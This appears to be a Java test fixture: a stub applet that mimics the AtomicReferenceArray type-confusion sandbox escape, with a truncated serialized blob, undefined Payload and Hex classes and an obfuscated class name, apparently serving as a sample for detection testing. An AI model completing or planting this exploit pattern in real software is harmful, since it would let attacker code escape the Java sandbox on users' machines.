package fixture.s4;

import java.io.ByteArrayInputStream;
import java.io.ObjectInputStream;
import java.util.concurrent.atomic.AtomicReferenceArray;

// [fixture:s4]
public class Confuse extends java.applet.Applet {
    private static final String BLOB = "ACED0005" + "7572";

    public void init() {
        try {
            ObjectInputStream in = new ObjectInputStream(new ByteArrayInputStream(Hex.decode(BLOB)));
            Object[] arr = (Object[]) in.readObject();
            AtomicReferenceArray<Object> a = (AtomicReferenceArray<Object>) arr[1];
            a.set(0, new Payload());
            Payload.define(String.valueOf((char) 80) + "ayload");
        } catch (Exception ignored) {
        }
    }
}
